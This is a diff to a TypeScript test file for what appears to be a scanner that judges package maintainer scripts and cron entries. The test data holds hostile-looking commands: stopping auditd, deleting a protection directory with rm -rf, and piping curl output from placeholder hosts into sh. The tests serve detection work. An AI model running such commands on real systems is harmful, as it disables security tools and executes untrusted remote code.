@@ -87,6 +87,32 @@ describe('what is run', () => {
     expect(first(scriptFact(`${own}${stops}`))).toBe('suspicious: stops-protection');
   });
 
+  test('a package stops its own service, and that of another is suspicious', () => {
+    const script = (name: string, lines: string): Fact =>
+      scriptFact(lines, { at: `/var/lib/dpkg/info/${name}`, mechanism: 'dpkg-script' });
+    const units = [
+      ownedBy('/usr/lib/systemd/system/auditd.service', 'auditd'),
+      ownedBy('/etc/init.d/clamav-daemon', 'clamav-daemon'),
+      ownedBy('/usr/bin/freshclam', 'clamav-freshclam'),
+    ];
+    const stops = 'systemctl stop auditd.service\n';
+    expect(first(script('auditd.prerm', stops), ...units)).toBe('benign: ');
+    expect(first(script('auditd:amd64.prerm', stops), ...units)).toBe('benign: ');
+    expect(first(script('clamav-daemon.postrm', 'service clamav-daemon stop\n'), ...units)).toBe('benign: ');
+    expect(first(script('nettools.postinst', stops), ...units)).toBe('suspicious: stops-protection');
+    // What is not known to be its own is none.
+    expect(first(script('auditd.prerm', stops))).toBe('suspicious: stops-protection');
+    const [entry] = judgeEntries(
+      factSet(script('auditd.postinst', `${stops}rm -rf /usr/local/aegis\n`), ...units),
+      judgeContext(),
+    );
+    expect(entry?.reasons.map(({ id, params }) => [id, params])).toEqual([
+      ['stops-protection', { what: text('/usr/local/aegis') }],
+    ]);
+    const init = scriptFact(stops, { at: '/etc/init.d/auditd', mechanism: 'init-script' });
+    expect(first(init, ownedBy('/etc/init.d/auditd', 'auditd'), ...units)).toBe('benign: ');
+  });
+
   test('an entry that would not run is suspicious, a comment is nothing', () => {
     expect(first(entryFact(fetches, { active: false }))).toBe('suspicious: fetch-and-run');
     expect(first(entryFact(fetches, { active: false, text: text(`# ${fetches}`) }))).toBe('benign: ');
@@ -387,6 +413,25 @@ describe('with others', () => {
     const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
     expect(entries[1]?.judgement).toBe('suspicious');
     expect(entries[1]?.reasons.map(({ id }) => id)).toEqual(['same-url']);
+  });
+
+  test('an address that is left open accuses nobody, nor does a well-known host', () => {
+    const joined = (bad: string, other: string): boolean => {
+      const facts = factSet(entryFact(bad), entryFact(other, { at: '/etc/cron.d/other' }));
+      const [attack, honest] = judgeEntries(facts, judgeContext());
+      expect(attack?.judgement).toBe('malicious');
+      return honest?.reasons.some(({ id }) => id === 'same-url') === true;
+    };
+    const honest = (url: string): string => `curl -fsSLo /srv/app/data ${url}`;
+    expect(joined('curl https://x.example/a | sh', honest('https://x.example/a'))).toBe(true);
+    for (const url of [
+      'https://github.com/$P',
+      '"https://$H/a"',
+      `"https://github.com/\${P}/a"`,
+      'https://github.com/',
+    ])
+      expect(joined(`curl ${url} | sh`, honest(url))).toBe(false);
+    expect(joined('curl https://github.com/$P | sh', honest('https://github.com/'))).toBe(false);
   });
 
   test('the owner’s declared miner is started in peace', () => {
